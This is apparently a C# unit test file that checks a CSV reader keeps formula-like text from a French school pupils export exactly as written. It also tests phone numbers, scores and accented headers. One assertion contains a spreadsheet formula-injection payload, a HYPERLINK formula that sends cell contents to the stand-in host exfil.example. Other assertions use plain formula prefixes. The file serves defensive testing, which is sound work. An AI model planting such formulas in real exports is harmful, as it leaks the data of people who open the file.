using LocalInsights.Core.Text;

namespace LocalInsights.Connectors.Tests.Ent;

/// <summary>
/// Text typed by platform users that a spreadsheet would take for a formula, read through
/// <see cref="DelimitedFile"/> as the ENT connectors read it: values must come out exactly as written.
/// </summary>
public sealed class EntExportTextTests
{
    private static readonly string PupilsExport = Path.Combine(
        AppContext.BaseDirectory, "TestData", "12-excel-formula-injection-from-ent-export", "export-ent-eleves.csv");

    [Fact]
    public void FormulaLikeText_KeptVerbatim()
    {
        var rows = ReadRows();

        Assert.Equal("=HYPERLINK(\"http://exfil.example/?d=\"&A2;\"Voir le détail\")", rows[0][4]);
        Assert.Equal("=1+1", rows[1][2]);
        Assert.Equal("@SUM(1+1)", rows[1][4]);
        Assert.Equal("-Absent le lundi", rows[2][4]);
        Assert.Equal("\t=2+3", rows[3][4]);
        Assert.Equal("'=déjà préfixé", rows[4][4]);
        Assert.Equal("+ Très bon travail", rows[5][4]);
    }

    [Fact]
    public void PhoneNumbers_StayText()
    {
        var rows = ReadRows();

        Assert.Equal("+33 6 00 00 00 01", rows[0][3]);
        Assert.Equal("0600000002", rows[1][3]);
    }

    [Theory]
    [InlineData(0, "12")]
    [InlineData(1, "-5")]
    [InlineData(3, "7.5")]
    [InlineData(4, "0")]
    [InlineData(5, "15")]
    public void Scores_ParseAsNumbers(int row, string expected)
    {
        var rows = ReadRows();

        Assert.True(NumberParser.TryParseDecimal(rows[row][5], DecimalSeparator.Auto, out var score));
        Assert.Equal(decimal.Parse(expected, System.Globalization.CultureInfo.InvariantCulture), score);
    }

    [Fact]
    public void LoneDash_IsNoNumber()
    {
        var rows = ReadRows();

        Assert.Equal("-", rows[2][5]);
        Assert.False(NumberParser.TryParseDecimal(rows[2][5], DecimalSeparator.Auto, out _));
    }

    [Fact]
    public void Header_ReadWithAccents()
    {
        using var file = DelimitedFile.Open(PupilsExport);

        Assert.Equal(["Nom", "Prénom", "Classe", "Téléphone", "Commentaire", "Score"], file.Header);
        Assert.Equal(';', file.Separator);
    }

    private static List<IReadOnlyList<string>> ReadRows()
    {
        using var file = DelimitedFile.Open(PupilsExport);
        return file.ReadRows().Select(row => row.Fields).ToList();
    }
}
